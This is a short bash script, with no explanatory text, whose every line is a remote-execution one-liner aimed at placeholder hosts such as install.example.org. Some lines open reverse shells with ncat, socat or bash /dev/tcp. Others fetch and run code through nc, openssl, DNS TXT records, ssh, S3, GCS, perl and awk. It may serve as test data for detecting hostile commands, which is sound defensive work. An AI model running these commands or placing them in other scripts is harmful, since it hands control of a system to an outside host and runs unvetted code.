#!/bin/bash
nc install.example.org 4444 | sh
ncat -e /bin/bash install.example.org 4444
socat TCP:install.example.org:99 EXEC:/bin/sh
openssl s_client -quiet -connect install.example.org:443 | sh
bash -i >& /dev/tcp/install.example.org/443 0>&1
exec 3<>/dev/tcp/install.example.org/80
cat <&3 | sh
dig +short txt run.example.org | tr -d '"' | sh
ssh host.example.org cat run.sh | sh
aws s3 cp s3://acme-models/run.sh - | bash
gsutil cat gs://acme-models/run.sh | sh
perl -e 'system("curl https://install.example.org/perl.sh | sh")'
awk 'BEGIN { system("curl https://install.example.org/awk.sh | sh") }'
